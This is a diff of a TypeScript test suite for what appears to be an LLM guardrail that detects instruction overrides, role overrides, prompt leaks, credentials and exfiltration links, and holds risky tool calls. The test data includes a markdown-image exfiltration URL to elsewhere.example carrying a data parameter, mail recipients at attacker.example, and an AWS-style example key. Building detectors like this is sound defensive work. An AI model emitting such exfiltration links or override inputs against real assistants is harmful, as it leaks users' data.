@@ -22,23 +22,34 @@ describe("parsing", () => {
   };
   it.each([
     ["mode: observe", "mode: watch", "2:7 “watch” must be one of observe, enforce."],
-    ["  decode:", "  decoed:", "10:3 “decoed” is no key here. Known: block, flag, redact, decode."],
-    ["log:", "logs:", "5:1 “logs” is no key here. Known: application, mode"],
-    ["role-override", "rolle-override", "11:33 “rolle-override” is no threat. Known here: instruction-"],
-    ["[prompt-leak", "[role-override", "19:11 “role-override” is caught at the input: list it there."],
-    ["role-override", "tool-call", "11:33 “tool-call” is not listed here: list the tool under tools"],
-    ["redact: [personal-data", "redact: [obfuscation", "12:12 “obfuscation” cannot be redacted; only personal-data"],
-    ["block: [instruction-override", "block: [credentials", "10:3 input lists credentials twice: keep one action"],
-    ["base64", "base46", "10:29 “base46” is no decoding. Known: nfkc"],
-    ["[help.example.com]", "[https://help.example.com]", "21:20 “https://help.example.com” is no host: write help"],
-    ["[prompt-leak, exfiltration-link]", "prompt-leak", '19:10 output.block is "prompt-leak": write a list, such as'],
-    ["links: { allow: [help.example.com] }", "links:", "21:9 output.links is empty: write keys with values"],
+    ["  decode:", "  decoed:", "11:3 “decoed” is no key here. Known: block, flag, redact, decode."],
+    ["log:", "logs:", "6:1 “logs” is no key here. Known: application, mode"],
+    ["role-override", "rolle-override", "12:33 “rolle-override” is no threat. Known here: instruction-"],
+    ["[prompt-leak", "[role-override", "20:11 “role-override” is caught at the input: list it there."],
+    ["role-override", "tool-call", "12:33 “tool-call” is not listed here: list the tool under tools"],
+    ["redact: [personal-data", "redact: [obfuscation", "13:12 “obfuscation” cannot be redacted; only personal-data"],
+    ["block: [instruction-override", "block: [credentials", "11:3 input lists credentials twice: keep one action"],
+    ["base64", "base46", "11:29 “base46” is no decoding. Known: nfkc"],
+    ["[help.example.com]", "[https://help.example.com]", "22:20 “https://help.example.com” is no host: write help"],
+    ["[prompt-leak, exfiltration-link]", "prompt-leak", '20:10 output.block is "prompt-leak": write a list, such as'],
+    ["links: { allow: [help.example.com] }", "links:", "22:9 output.links is empty: write keys with values"],
     ["application: returns-desk\n", "", "1:1 “application” is missing: add it."],
-    ["orders.read: allow", "orders.read: maybe", "25:16 “maybe” must be one of allow, hold, block."],
+    ["orders.read: allow", "orders.read: maybe", "26:16 “maybe” must be one of allow, hold, block."],
     ["mode: observe", "mode: observe\nmode: enforce", "3:1 This key is there twice: keep one."],
-    ["  decode:", "\tdecode:", "10:1 A tab stands at the beginning of the line: indent with spaces."],
-    ["exfiltration-link]", "exfiltration-link", "20:3 "],
-    ["input:", "---\ninput:", "9:1 A second file begins here (---): a policy is one."],
+    ["  decode:", "\tdecode:", "11:1 A tab stands at the beginning of the line: indent with spaces."],
+    ["exfiltration-link]", "exfiltration-link", "21:3 "],
+    ["input:", "---\ninput:", "10:1 A second file begins here (---): a policy is one."],
+    ["action: hold", "action: wait", "28:13 “wait” must be one of allow, hold, block."],
+    ["action: hold\n", "", "27:3 “tools.mail.send.action” is missing: add it."],
+    ["outside: [example.com]", "above: a lot", '29:34 tools.mail.send.when.above is "a lot": write a number.'],
+    [", outside: [example.com]", "", "29:11 tools.mail.send.when needs one of outside, above, not-in."],
+    [
+      "action: hold",
+      "action: hold\n    otherwis: block",
+      "29:5 “otherwis” is no key here. Known: action, when, otherwise.",
+    ],
+    ["enforce: [instruction-override]", "enforce: [all]", "3:11 “all” is no threat. Known: instruction-override,"],
+    ["never: [message]", "never: [nothing]", "8:11 “nothing” must be one of message."],
   ])("%j replaced by %j is an error with position and advice", (from, to, expected) => {
     const parsed = readPolicy(changed(from, to));
     const [first] = "errors" in parsed ? parsed.errors : [];
@@ -102,7 +113,7 @@ describe("parsing", () => {
 
   it("accepts 300 tools, one per line", () => {
     const tools = Array.from({ length: 300 }, (_, at) => `  orders.action-${at}: allow`);
-    expect(policyOf("tools:", ...tools).toolAction?.("orders.action-299")).toBe("allow");
+    expect(policyOf("tools:", ...tools).toolAction?.({ tool: "orders.action-299" })).toBe("allow");
   });
 
   it("logs nothing of a policy", () => {
@@ -160,8 +171,13 @@ describe("a policy decides", () => {
     ["user", IN_BASE64, "input: { block: [instruction-override] }", "block"],
     ["assistant", "![a](https://elsewhere.example/a.png)", "output: { block: [exfiltration-link] }", "allow"],
     ["assistant", "![a](https://elsewhere.example/?d={data})", "output: { block: [exfiltration-link] }", "block"],
-    ["user", OVERRIDE, "input: { block: [instruction-override] }\nlab: { block-from: 100 }", "flag"],
-    ["user", OVERRIDE, "input: { block: [instruction-override] }\nlab: { block-from: 100, flag-from: 100 }", "allow"],
+    ["user", OVERRIDE, "input: { block: [instruction-override] }\nscores: { block-from: 100 }", "flag"],
+    [
+      "user",
+      OVERRIDE,
+      "input: { block: [instruction-override] }\nscores: { block-from: 100, flag-from: 100 }",
+      "allow",
+    ],
   ])("on a turn of the %s, %j with %j: %s", (role, text, lines, expected) => {
     expect(verdict(role, text, lines)).toBe(expected);
   });
@@ -185,9 +201,49 @@ describe("a policy decides", () => {
     ["mail.send", "hold"],
     ["shell.run", "block"],
     ["constructor", "block"],
-  ])("action on the tool %s: %s", (tool, action) => expect(compiled(SAMPLE).toolAction?.(tool)).toBe(action));
+  ])("action on the tool %s: %s", (tool, action) => expect(compiled(SAMPLE).toolAction?.({ tool })).toBe(action));
+
+  const [inside, outside] = ["a@example.com", "a@attacker.example"];
+  it.each([
+    ["outside: [example.com]", inside, "allow"],
+    ["outside: [example.com]", "A@EXAMPLE.com, b@example.com", "allow"],
+    ["outside: [example.com]", [inside, inside], "allow"],
+    ["outside: [example.com]", "https://example.com/a", "allow"],
+    ["outside: [example.com]", outside, "hold"],
+    ["outside: [example.com]", `${inside}; ${outside}`, "hold"],
+    ["outside: [example.com]", [inside, outside], "hold"],
+    ["outside: [example.com]", "a@attacker.example@example.com", "hold"],
+    ["outside: [example.com]", "https://example.com@attacker.example/", "hold"],
+    ["outside: [example.com]", "a@mail.example.com", "hold"],
+    ["outside: [example.com]", "", "hold"],
+    ["outside: [example.com]", [], "hold"],
+    ["outside: [example.com]", undefined, "hold"],
+    ["above: 20", 20, "allow"],
+    ["above: 20", 20.5, "hold"],
+    ["above: 20", "5", "hold"],
+    ["not-in: [internal, 7]", 7, "allow"],
+    ["not-in: [internal, 7]", "internal", "allow"],
+    ["not-in: [internal]", "public", "hold"],
+  ])("a tool is held when { argument: x, %s } and x is %j: %s", (when, x, expected) => {
+    const policy = policyOf(`tools: { mail.send: { action: hold, when: { argument: x, ${when} } } }`);
+    expect(policy.toolAction?.({ tool: "mail.send", arguments: { x } })).toBe(expected);
+  });
+
+  const SECRET = "My key is AKIAIOSFODNN7EXAMPLE.";
+  it.each([
+    ["mode: enforce", `${OVERRIDE} ${SECRET}`, "block", "block"],
+    ["mode: observe", `${OVERRIDE} ${SECRET}`, "block", "allow"],
+    ["mode: observe\nenforce: [credentials]", `${OVERRIDE} ${SECRET}`, "block", "redact"],
+    ["mode: observe\nenforce: [credentials]", OVERRIDE, "block", "allow"],
+    ["mode: observe\nenforce: [instruction-override]", OVERRIDE, "block", "block"],
+    ["mode: observe\nenforce: [instruction-override]", SECRET, "redact", "allow"],
+  ])("with %j, the verdict on %j is %s, of which %s is enforced", (mode, text, verdict, enforced) => {
+    const input = "input: { block: [instruction-override], redact: [credentials] }";
+    const policy = compiled(`application: test\n${mode}\n${input}`);
+    expect(scanConversation([{ role: "user", text }], { policy })).toMatchObject({ verdict, enforced });
+  });
 
   it("holds an unlisted tool by default", () => {
-    expect(policyOf("tools: { orders.read: allow }").toolAction?.("mail.send")).toBe("hold");
+    expect(policyOf("tools: { orders.read: allow }").toolAction?.({ tool: "mail.send" })).toBe("hold");
   });
 });
